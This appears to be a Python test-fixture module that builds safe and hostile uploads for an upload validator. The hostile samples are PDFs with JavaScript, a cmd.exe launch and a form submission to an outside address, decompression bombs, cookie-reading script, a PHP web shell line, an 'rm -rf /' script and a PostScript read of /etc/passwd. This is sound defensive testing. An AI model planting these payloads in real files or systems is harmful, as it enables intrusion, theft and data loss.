"""Files as they come over the counter and files as attackers make them, all built here in code."""

import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image, PngImagePlugin

Corpus = dict[str, bytes]

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
SCRIPT = b"<script>alert(document.cookie)</script>"


# --- pictures -----------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_header(width: int, height: int, *, depth: int = 8, colour: int = 2) -> bytes:
    return PNG_MAGIC + chunk(
        b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    )


def png_of_zeros(width: int, height: int) -> bytes:
    """Less than a megabyte that unpacks to width × height pixels. One row is packed, and stands for all."""
    pack = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    row = b"\x00" * (1 + width * 3)
    packed = pack.compress(row) + pack.flush(zlib.Z_FULL_FLUSH)
    adler = struct.pack(">HH", len(row) * height % 65_521, 1)  # of zeros
    stream = b"\x78\xda" + packed * height + b"\x03\x00" + adler
    return png_header(width, height) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")


def picture(mode: str = "RGB", size: tuple[int, int] = (120, 80)) -> Image.Image:
    noise = Image.effect_noise(size, 60)
    return noise.convert("RGB").convert(mode) if mode != "I;16" else Image.new("I;16", size, 40_000)


def saved(image: Image.Image, form: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def jpg(mode: str = "RGB", **options: object) -> bytes:
    return saved(picture(mode), "JPEG", **options)


def jpg_with_orientation(value: int) -> bytes:
    """Left half black, right half white as stored; EXIF tells how the telephone was held."""
    image = Image.new("L", (40, 20), 255)
    image.paste(0, (0, 0, 20, 20))
    exif = Image.Exif()
    exif[0x0112] = value
    return saved(image, "JPEG", exif=exif, quality=95)


def jpg_with_exif(text: bytes) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = text.decode()  # ImageDescription
    exif[0x8298] = "GPS 39.66 106.79"
    return saved(picture(), "JPEG", exif=exif, comment=text)


def jpg_claiming(width: int, height: int, *, marker: int = 0xC0) -> bytes:
    """A small JPEG whose frame header claims another size."""
    data = bytearray(jpg())
    frame = data.index(b"\xff\xc0")
    data[frame + 1] = marker
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


# --- PDF ----------------------------------------------------------------------------------------


def pdf(
    *extra: bytes,
    pages: int = 1,
    catalog: bytes = b"",
    trailer: bytes = b"",
    newline: bytes = b"\n",
    content: bytes = b"BT /F1 12 Tf (hello) Tj ET",
    header: bytes = b"%PDF-1.4",
) -> bytes:
    """A plain PDF with a classic cross-reference table. `extra` are bodies of further objects."""
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Length %d >>" % len(content) + newline + b"stream\n" + content + b"\nendstream",
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * pages,
        *extra,
    ]
    out, offsets = header + newline + b"%\xe4\xbd\xa0\xe5" + newline, []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj" % number + newline + body + newline + b"endobj" + newline
    start = len(out)
    out += (
        b"xref" + newline + b"0 %d" % (len(bodies) + 1) + newline + b"0000000000 65535 f " + newline
    )
    out += b"".join(b"%010d 00000 n " % offset + newline for offset in offsets)
    out += (
        b"trailer"
        + newline
        + b"<< /Size %d /Root 1 0 R " % (len(bodies) + 1)
        + trailer
        + b" >>"
        + newline
    )
    return out + b"startxref" + newline + b"%d" % start + newline + b"%%EOF" + newline


def object_stream(
    *bodies: bytes, entries: bytes = b"/Type /ObjStm", packed: bytes | None = None
) -> bytes:
    """The body of an object that holds further objects, numbered from 50, compressed."""
    heads, offset = [], 0
    for number, body in enumerate(bodies, 50):
        heads.append(b"%d %d" % (number, offset))
        offset += len(body) + 1
    head = b" ".join(heads) + b" "
    data = zlib.compress(head + b" ".join(bodies)) if packed is None else packed
    return (
        b"<< " + entries + b" /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(bodies), len(head), len(data))
    ) + data + b"\nendstream"  # fmt: skip


def pdf_compressed(*bodies: bytes) -> bytes:
    """PDF 1.5: all dictionaries in one object stream and a cross-reference stream instead of a table."""
    bodies = bodies or (
        b"<< /Type /Catalog /Pages 51 0 R >>",
        b"<< /Type /Pages /Kids [52 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 51 0 R /MediaBox [0 0 595 842] >>",
    )
    holder = b"1 0 obj\n" + object_stream(*bodies) + b"\nendobj\n"
    head = b"%PDF-1.5\n%\xe4\xbd\xa0\xe5\n"
    start = len(head) + len(holder)
    table = zlib.compress(bytes(7 * 8))
    return (
        head
        + holder
        + b"2 0 obj\n<< /Type /XRef /Size 60 /W [1 4 2] /Root 50 0 R /Filter /FlateDecode /Length %d"
        b" /DecodeParms << /Columns 7 /Predictor 12 >> >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )


JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def updated(base: bytes, body: bytes) -> bytes:
    """An incremental update appended to a document, as annotating programs write it."""
    start = len(base)
    return (
        base
        + b"9 0 obj\n" + body + b"\nendobj\nxref\n9 1\n%010d 00000 n \n" % start
        + b"trailer\n<< /Size 10 /Root 1 0 R /Prev 9 >>\nstartxref\n%d\n%%%%EOF\n" % (start + 60)
    )  # fmt: skip


# --- the two corpora ----------------------------------------------------------------------------


def hostile_pdfs() -> Iterator[tuple[str, str, bytes]]:
    yield "javascript on opening", "pdf_active", pdf(catalog=b"/OpenAction " + JAVASCRIPT)
    yield (
        "javascript in the name tree",
        "pdf_active",
        pdf(JAVASCRIPT, catalog=b"/Names << /JavaScript 5 0 R >>"),
    )
    yield "javascript spelt with escapes", "pdf_active", pdf(b"<< /S /J#61vaScript /J#53 (x) >>")
    yield "javascript in hexadecimal capitals", "pdf_active", pdf(b"<< /S /#4A#61#76#61#53cript >>")
    yield "javascript in an object stream", "pdf_active", pdf(object_stream(JAVASCRIPT))
    yield (
        "escaped javascript in an object stream",
        "pdf_active",
        pdf(object_stream(b"<</S/Java#53cript>>")),
    )
    yield (
        "object stream with an escaped type",
        "pdf_active",
        pdf(object_stream(JAVASCRIPT, entries=b"/Type /Obj#53tm")),
    )
    yield "object stream without a type", "pdf_active", pdf(object_stream(JAVASCRIPT, entries=b""))
    yield "object stream dressed as a picture", "pdf_active", pdf(
        object_stream(JAVASCRIPT, entries=b"/Type /XObject /Subtype /Image /Width 9 /Height 9")
    )  # fmt: skip
    yield "object stream with two filters", "pdf_structure", pdf(
        object_stream(JAVASCRIPT).replace(b"/Filter /FlateDecode", b"/Filter [/ASCIIHexDecode /FlateDecode]")
    )  # fmt: skip
    yield "object stream with its first offset elsewhere", "pdf_structure", pdf(
        b"3", object_stream(JAVASCRIPT).replace(b"/First 5", b"/First 5 0 R")
    )  # fmt: skip
    yield (
        "object stream cut short",
        "damaged",
        pdf(object_stream(b"<<>>", packed=zlib.compress(b"50 0 <<>>")[:-6])),
    )
    yield "object stream that is a bomb", "too_complex", pdf(
        object_stream(b"<<>>", packed=zlib.compress(bytes(80_000_000), 9))
    )  # fmt: skip
    hidden = b"\n7 0 obj\n" + object_stream(JAVASCRIPT) + b"\nendobj\n"
    yield (
        "object hidden in the data of a stream",
        "pdf_structure",
        pdf(content=hidden.replace(b"endstream", b"")),
    )
    yield "object hidden in a comment", "pdf_structure", pdf(b"<<>> % 7 0 obj <</A 1>>")
    yield (
        "object hidden in a string",
        "pdf_structure",
        pdf(b"<< /T (x\n7 0 obj <</A 1>> stream) >>"),
    )
    yield "launches a program", "pdf_active", pdf(b"<< /S /Launch /F (cmd.exe) >>")
    yield "additional actions", "pdf_active", pdf(catalog=b"/AA << /WC << /S /URI >> >>")
    yield "sends a form away", "pdf_active", pdf(b"<< /S /SubmitForm /F (http://203.0.113.9/) >>")
    yield "dynamic XFA form", "pdf_active", pdf(catalog=b"/AcroForm << /XFA 5 0 R >>")
    yield "rich media", "pdf_active", pdf(b"<< /Type /Annot /Subtype /RichMedia >>")
    yield (
        "attachment",
        "pdf_attachment",
        pdf(b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"),
    )
    yield "attachment in an object stream", "pdf_attachment", pdf_compressed(
        b"<< /Type /Catalog /Names << /EmbeddedFiles 9 0 R >> >>", b"<< /Type /Page >>"
    )  # fmt: skip
    yield (
        "encrypted",
        "pdf_encrypted",
        pdf(b"<< /Filter /Standard /V 2 >>", trailer=b"/Encrypt 5 0 R"),
    )
    yield "201 pages", "pdf_pages", pdf(pages=201)
    yield "no page at all", "damaged", pdf(pages=0)
    yield "cut in the middle", "damaged", pdf()[:300]
    yield "only a header", "damaged", b"%PDF-1.4\n"
    yield "only header and end", "damaged", b"%PDF-1.4\n%%EOF"
    yield "zip behind the end", "pdf_structure", pdf() + b"PK\x03\x04evil.exe"
    yield "zip inside", "pdf_structure", pdf(content=b"PK\x03\x04 x PK\x05\x06" + bytes(18))
    yield "html behind the end", "pdf_structure", pdf() + b"<html>" + SCRIPT
    yield (
        "html between objects",
        "pdf_structure",
        pdf().replace(b"xref\n0", SCRIPT + b"\nxref\n0", 1),
    )
    yield "javascript added by an update", "pdf_active", updated(pdf(), JAVASCRIPT)
    yield "a key twice", "pdf_structure", pdf(b"<< /Type /Action /Type /Font >>")
    yield "nested too deeply", "pdf_structure", pdf(b"[" * 50_000 + b"]" * 50_000)
    yield "unclosed string", "pdf_structure", pdf(b"<< /T (" + b"(" * 40_000 + b" >>")
    yield "millions of tokens", "too_complex", pdf(b"[" + b"1 " * 2_000_000 + b"]")
    yield "millions of percent signs", "damaged", b"%PDF-1.4\n" + b"1%" * 3_000_000 + b"%%EOF"
    yield "unknown version", "pdf_structure", pdf(header=b"%PDF-9.9")


def hostile_pictures() -> Iterator[tuple[str, str, bytes]]:
    yield "png of 169 megapixels", "too_many_pixels", png_of_zeros(13_000, 13_000)
    yield (
        "png with a header of 2³¹ pixels a side",
        "too_many_pixels",
        png_header(2**31 - 1, 2**31 - 1),
    )
    yield "png one pixel high and very wide", "too_many_pixels", png_header(1_000_000, 1)
    yield "png of no width", "damaged", png_header(0, 10)
    yield "png without data", "damaged", png_header(10, 10) + chunk(b"IEND", b"")
    yield "png cut short", "damaged", saved(picture(), "PNG")[:400]
    yield "png with only its magic", "damaged", PNG_MAGIC
    yield (
        "png whose first chunk is not the header",
        "damaged",
        PNG_MAGIC + chunk(b"tEXt", b"a\x00b") + png_header(1, 1),
    )
    yield (
        "png with rubbish for pixels",
        "damaged",
        png_header(50, 50) + chunk(b"IDAT", b"\x00" * 60),
    )
    yield "jpg of 65535 × 65535", "too_many_pixels", jpg_claiming(65_535, 65_535)
    yield (
        "progressive jpg of 36 megapixels",
        "too_many_pixels",
        jpg_claiming(6_000, 6_000, marker=0xC2),
    )
    yield "jpg cut short", "damaged", jpg()[:900]
    yield "jpg with only its magic", "damaged", b"\xff\xd8\xff\xe0"
    yield "jpg that begins without a size", "damaged", b"\xff\xd8\xff\xda\x00\x08" + bytes(40)
    yield "jpg whose segments never end", "damaged", b"\xff\xd8\xff\xe1\x00\x00" * 2_000
    yield "jpg magic before html", "damaged", b"\xff\xd8\xff" + b"<html>" + SCRIPT


def hostile_others() -> Iterator[tuple[str, str, bytes]]:
    yield "empty", "empty", b""
    yield "one byte too many", "too_large", b"\xff\xd8\xff" + bytes(10 * 1024 * 1024 - 2)
    yield "gif that is javascript", "picture_kind", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
    yield (
        "svg",
        "web",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    )
    yield "svg after a byte order mark", "web", "\ufeff  <svg onload=alert(1)>".encode()
    yield "html", "web", b"<!DOCTYPE html>" + SCRIPT
    yield "html in utf-16", "web", "<html>".encode("utf-16-le") + bytes(20)
    yield "shell script", "web", b"#!/bin/sh\nrm -rf /\n"
    yield "windows program", "web", b"MZ\x90\x00" + bytes(200)
    yield "zip, docx, xlsx, apk, jar", "office", b"PK\x03\x04" + bytes(60)
    yield "old word file", "office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    yield "rich text with an object", "office", b"{\\rtf1{\\object\\objocx}}"
    yield (
        "heic from a telephone",
        "heic",
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(60),
    )
    yield "webp", "picture_kind", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(30)
    yield "avif", "picture_kind", b"\x00\x00\x00\x18ftypavif" + bytes(30)
    yield "tiff", "picture_kind", b"II*\x00\x08\x00\x00\x00" + bytes(30)
    yield "pdf header not at the beginning", "web", b"<html>" + SCRIPT + pdf()
    yield "postscript", "unknown", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"
    yield "only zeros", "unknown", bytes(5_000)
    yield "plain text", "unknown", "低保申请".encode()


def smuggled() -> Iterator[tuple[str, bytes]]:
    """Pictures that are readable and carry something: they are taken, what they carry is not."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SCRIPT.decode(), zip=False)
    yield "jpg with script in exif and comment", jpg_with_exif(SCRIPT)
    yield "jpg with html behind the end", jpg() + b"<html>" + SCRIPT
    yield "jpg with a zip behind the end", jpg() + b"PK\x03\x04evil.exePK\x05\x06" + bytes(18)
    yield "jpg with php in a segment", jpg(comment=b"<?php system($_GET[0]); ?>")
    yield "jpg with a profile full of script", jpg(icc_profile=SCRIPT * 20)
    yield "png with script in a text chunk", saved(picture(), "PNG", pnginfo=text)
    yield (
        "png with a private chunk",
        saved(picture(), "PNG")[:-12] + chunk(b"evIl", SCRIPT) + chunk(b"IEND", b""),
    )
    yield (
        "png with a shell archive behind the end",
        saved(picture(), "PNG") + b"\n#!/bin/sh\n" + SCRIPT,
    )


def good() -> Iterator[tuple[str, str, bytes]]:
    for value in range(1, 9):
        yield f"jpg held in way {value}", "jpg", jpg_with_orientation(value)
    for mode in ("RGB", "L", "CMYK"):
        yield f"jpg {mode}", "jpg", jpg(mode)
    yield "jpg progressive", "jpg", jpg(progressive=True)
    yield "jpg with full colour", "jpg", jpg(subsampling=0, quality=95)
    yield "jpg of 48 megapixels", "jpg", saved(Image.new("RGB", (8_000, 6_000), "white"), "JPEG")
    yield "jpg with a second picture inside", "jpg", saved(
        picture(), "MPO", save_all=True, append_images=[picture(size=(40, 30))]
    )  # fmt: skip
    yield (
        "jpg with padding before a marker",
        "jpg",
        jpg().replace(b"\xff\xdb", b"\xff\xff\xff\xdb", 1),
    )
    for mode in ("RGB", "RGBA", "L", "LA", "P", "1", "I;16"):
        yield f"png {mode}", "png", saved(picture(mode), "PNG")
    yield "png with a transparent palette", "png", saved(picture("P"), "PNG", transparency=3)
    yield "pdf, one page", "pdf", pdf()
    yield "pdf, 200 pages", "pdf", pdf(pages=200)
    yield "pdf with windows line ends", "pdf", pdf(newline=b"\r\n")
    yield "pdf with old line ends", "pdf", pdf(newline=b"\r")
    yield (
        "pdf opening at its first page",
        "pdf",
        pdf(catalog=b"/OpenAction [4 0 R /XYZ null null 0]"),
    )
    yield (
        "pdf with a link",
        "pdf",
        pdf(b"<< /Subtype /Link /A << /S /URI /URI (https://www.gov.cn/) >> >>"),
    )
    yield (
        "pdf with a signature field",
        "pdf",
        pdf(b"<< /FT /Sig /V << /Filter /Adobe.PPKLite /Contents <00ff> >> >>"),
    )
    yield (
        "pdf with chinese title and brackets",
        "pdf",
        pdf(b"<< /Title (\xfe\xff\\(a\\) (b\\\\)) >>"),
    )
    yield "pdf with compressed objects", "pdf", pdf_compressed()
    yield "pdf updated once", "pdf", updated(pdf(), b"<< /Subtype /Highlight >>")
    yield "pdf of a scanner", "pdf", saved(picture(), "PDF")
    yield (
        "pdf whose length stands elsewhere",
        "pdf",
        pdf(b"26").replace(b"/Length 26", b"/Length 5 0 R"),
    )
